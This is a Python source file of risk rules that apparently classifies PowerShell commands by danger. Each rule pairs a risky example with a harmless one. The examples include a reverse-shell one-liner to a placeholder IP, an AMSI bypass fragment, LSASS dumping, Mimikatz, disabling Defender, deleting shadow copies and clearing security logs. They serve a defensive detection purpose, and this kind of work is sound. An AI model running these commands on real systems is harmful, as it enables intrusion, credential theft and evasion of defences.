"""The rules for PowerShell: what cmdlets and .NET's methods do beyond what all languages do."""

from __future__ import annotations

from app.risk.rules import RiskRule, declare
from assent.contracts import RiskLevel

SAFE, LOW, MEDIUM, HIGH, CRITICAL = RiskLevel


def _rule(name: str, level: RiskLevel, summary: str, example: str, harmless: str, *, unread: bool = False) -> RiskRule:
    return declare(f"powershell.{name}", level, summary, example, harmless, language="powershell", unread=unread)


READS_UNKNOWN = _rule(
    "reads_unknown", LOW, "Runs a command that only reads, by its name, but is not known.", "Get-Frobnication",
    "Get-Process", unread=True,
)  # fmt: skip
CHANGES_LOOKUP = _rule(
    "changes_lookup", HIGH, "Changes where programs and modules are looked for.", '$env:PATH = "C:\\x;$env:PATH"',
    "$env:COLOR = 'red'", unread=True,
)  # fmt: skip
CERTIFICATES_UNCHECKED = _rule(
    "certificates_unchecked", HIGH, "Turns the check of other machines' certificates off.",
    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
    "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
)  # fmt: skip
STOPS_SERVICE = _rule("service", HIGH, "Stops, removes, or changes a service.", "Stop-Service W32Time", "Get-Service")
RESTARTS_SERVICE = _rule(
    "service_restarts", MEDIUM, "Starts or restarts a service.", "Restart-Service Spooler", "Get-Service Spooler"
)
ENDS_PROCESS = _rule("process", MEDIUM, "Ends a process.", "Stop-Process -Name notepad", "Get-Process notepad")
STARTS = _rule(
    "starts", MEDIUM, "Starts a program.", "Start-Process notepad -Verb RunAs", "Get-Process notepad", unread=True
)
SCHEDULES = _rule(
    "scheduled_task", HIGH, "Adds, changes, or starts something that runs later or by itself.",
    "Register-ScheduledTask -TaskName a -Action $a -Trigger $t", "Get-ScheduledTask", unread=True,
)  # fmt: skip
UNSCHEDULES = _rule(
    "scheduled_task_removed", HIGH, "Stops or removes what runs by the clock.",
    "Unregister-ScheduledTask -TaskName Backup", "Get-ScheduledTask -TaskName Backup",
)  # fmt: skip
ACCOUNTS = _rule("accounts", HIGH, "Adds, changes, or removes accounts or groups.", "Remove-ADUser jdoe",
                 "Get-ADUser jdoe")  # fmt: skip
ADMINISTRATORS = _rule(
    "administrators", CRITICAL, "Makes somebody an administrator of the domain.",
    "Add-ADGroupMember 'Domain Admins' jdoe", "Get-ADGroupMember 'Domain Admins'",
)  # fmt: skip
DIRECTORY = _rule("directory", HIGH, "Changes the directory or its domain.", "Set-ADForest -Identity x",
                  "Get-ADForest")  # fmt: skip
PROTECTION = _rule(
    "protection", HIGH, "Weakens protection: virus scanner, firewall, audit, sign-in, policies.",
    "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-MpPreference",
)  # fmt: skip
FIREWALL = _rule("firewall", HIGH, "Changes the firewall.", "New-NetFirewallRule -DisplayName a -LocalPort 22",
                 "Get-NetFirewallRule")  # fmt: skip
ENCRYPTION = _rule("encryption", HIGH, "Changes the encryption of disks.", "Disable-BitLocker -MountPoint C:",
                   "Get-BitLockerVolume")  # fmt: skip
DISKS = _rule("disks", HIGH, "Changes disks, partitions, or volumes.", "Resize-Partition -DriveLetter C -Size 1GB",
              "Get-Partition")  # fmt: skip
DISK_GONE = _rule("disk_gone", CRITICAL, "Erases a disk, a volume, or a storage pool.", "Clear-Disk -Number 1",
                  "Get-Disk -Number 1")  # fmt: skip
EVENT_LOGS = _rule("event_logs", HIGH, "Deletes or changes logs.", "Clear-EventLog -LogName Security",
                   "Get-EventLog -LogName Security")  # fmt: skip
SHARES = _rule("shares", HIGH, "Shares folders or printers, or changes who may use them.",
               "New-SmbShare -Name a -Path C:\\a", "Get-SmbShare")  # fmt: skip
NETWORK = _rule("network", HIGH, "Changes the network's settings.", "Disable-NetAdapter -Name Ethernet",
                "Get-NetAdapter")  # fmt: skip
RESTARTS = _rule("restarts", HIGH, "Restarts or turns off machines.", "Restart-Computer", "Get-ComputerInfo")
REMOTE = _rule(
    "remoting", HIGH, "Runs code on other machines.", "Invoke-Command -ComputerName a -ScriptBlock { hostname }",
    "Invoke-Command -ScriptBlock { hostname }",
)  # fmt: skip
REMOTE_ON = _rule("remoting_on", HIGH, "Lets other machines run code on this one.", "Enable-PSRemoting",
                  "Get-PSSession")  # fmt: skip
RESTORE_POINTS = _rule(
    "restore_points", CRITICAL, "Deletes or turns off backups and restore points.",
    "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance", "Get-CimInstance Win32_ShadowCopy",
)  # fmt: skip
MANAGEMENT = _rule(
    "management", HIGH, "Changes the machine through WMI.", "Set-CimInstance -InputObject $x",
    "Get-CimInstance Win32_BIOS",
)  # fmt: skip
CONFIGURATION = _rule("configuration", HIGH, "Applies a desired configuration to machines.",
                      "Start-DscConfiguration -Path C:\\dsc", "Get-DscConfiguration", unread=True)  # fmt: skip
MACHINES = _rule("machines", HIGH, "Stops, changes, or removes virtual machines.", "Stop-VM web01", "Get-VM web01")
CLOUD = _rule("cloud", HIGH, "Changes or stops something in a cloud account.", "Stop-AzVM -Name a",
              "Get-AzVM -Name a")  # fmt: skip
CLOUD_NEW = _rule("cloud_new", MEDIUM, "Makes or changes something in a cloud account.", "New-AzTag -Name a",
                  "Get-AzTag -Name a")  # fmt: skip
CLOUD_GONE = _rule("cloud_gone", CRITICAL, "Deletes infrastructure or data in a cloud account.",
                   "Remove-AzResourceGroup -Name a", "Get-AzResourceGroup -Name a")  # fmt: skip
SECRETS = _rule("secrets", HIGH, "Reads passwords, keys, or other secrets.",
                "Get-AzKeyVaultSecret -VaultName a -Name b", "Get-AzKeyVault -VaultName a")  # fmt: skip
MAIL = _rule("mail", HIGH, "Changes or removes mailboxes, teams, or sites.", "Remove-Mailbox jdoe",
             "Get-Mailbox jdoe")  # fmt: skip
SENDS = _rule("sends", MEDIUM, "Sends a message to others.", "Send-MailMessage -To a@example.com -Subject b",
              "Get-Date")  # fmt: skip
WEB_SERVER = _rule("web_server", HIGH, "Changes or stops web sites.", "Stop-Website shop", "Get-Website shop")
DATABASES = _rule("databases", HIGH, "Changes databases or their servers.", "Backup-SqlDatabase -Database a",
                  "Get-SqlDatabase -Name a")  # fmt: skip
MODULES = _rule("modules", MEDIUM, "Installs or updates modules from a gallery.", "Install-Module Pester",
                "Get-Module Pester", unread=True)  # fmt: skip
UNTRUSTED = _rule("untrusted", HIGH, "Trusts another source of packages.",
                  "Set-PSRepository PSGallery -InstallationPolicy Trusted", "Get-PSRepository")  # fmt: skip
CERTIFICATES = _rule("certificates", HIGH, "Adds, removes, or exports certificates.",
                     "Import-Certificate a.cer Cert:\\LocalMachine\\Root", "Get-PfxCertificate a.pfx")  # fmt: skip
EXECUTION_POLICY = _rule("execution_policy", HIGH, "Lets scripts of any origin run.",
                         "Set-ExecutionPolicy Unrestricted", "Get-ExecutionPolicy")  # fmt: skip
INSTALLS = _rule("installs", HIGH, "Installs or removes software or features of the machine.",
                 "Uninstall-WindowsFeature Web-Server", "Get-WindowsFeature", unread=True)  # fmt: skip
MACHINE = _rule("machine", HIGH, "Changes settings of the machine.", "Set-TimeZone -Id UTC", "Get-TimeZone")
SETTINGS = _rule("settings", MEDIUM, "Changes a setting, or ends something that runs.", "Stop-Job 1", "Get-Job 1")
LOCAL = _rule(
    "local",
    LOW,
    "Makes a small change that is easily taken back.",
    "New-PSDrive -Name X -PSProvider FileSystem -Root C:\\x",
    "Get-Job",
)
SHOWS = _rule("shows", LOW, "Shows a window or a message to the user.",
              "Show-InstallationProgress -StatusMessage 'Please wait'", "Write-Host 'Please wait'")  # fmt: skip
TESTS = _rule("tests", LOW, "Runs the project's tests.", "Invoke-Pester -Path .\\tests", "Get-Module Pester",
              unread=True)  # fmt: skip
COMPILES = _rule("compiles", HIGH, "Compiles and loads code in another language, which has not been read.",
                 "Add-Type -TypeDefinition 'class A {}'", "Add-Type -AssemblyName System.Web", unread=True)  # fmt: skip
LOADS = _rule("loads", HIGH, "Loads a module or a library that has not been read.", "Import-Module .\\helpers.psm1",
              "Import-Module ActiveDirectory", unread=True)  # fmt: skip
SHELL_FOR_OTHERS = _rule(
    "remote_shell", CRITICAL, "Opens a connection over which somebody else may run commands.",
    "$c = New-Object Net.Sockets.TCPClient('203.0.113.7', 4444); iex $c.GetStream()", "Get-NetTCPConnection",
)  # fmt: skip
SOCKET = _rule("socket", HIGH, "Opens a connection of its own to another machine.",
               "New-Object Net.Sockets.TCPClient('203.0.113.7', 25)", "Get-NetTCPConnection")  # fmt: skip
BLINDS = _rule("blinds", HIGH, "Blinds the virus scanner or PowerShell's own logging.",
               "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "[Ref].Name")  # fmt: skip
MEMORY = _rule("memory", CRITICAL, "Reads passwords out of the memory or the files of Windows.",
               "procdump -ma lsass.exe a.dmp", "Get-Process lsass")  # fmt: skip
NATIVE = _rule("native_code", CRITICAL, "Writes code into memory and runs it, as malware does.",
               "[Runtime.InteropServices.Marshal]::Copy($a, 0, $b, 9)", "[Math]::Abs(-1)", unread=True)  # fmt: skip
ATTACK = _rule("attack_tool", CRITICAL, "Runs a tool that is made for attacks.", "Invoke-Mimikatz",
               "Get-Process")  # fmt: skip
UNKNOWN_METHOD = _rule("method", MEDIUM, "Calls a method whose effects are not known.", "$thing.Frobnicate()",
                       "$thing.ToString()", unread=True)  # fmt: skip
HISTORY = _rule("history", HIGH, "Deletes or stops the log of what has been typed or done.",
                "Clear-History", "Get-History")  # fmt: skip
WATCHES = _rule("watches", HIGH, "Reads the clipboard, the screen, or what is typed.", "Get-Clipboard",
                "Get-Culture")  # fmt: skip
PSADT = _rule("toolkit", MEDIUM, "Changes the machine through PSAppDeployToolkit.",
              "Mount-ADTWimFile -ImagePath a.wim -Path C:\\a", "Get-ADTApplication")  # fmt: skip
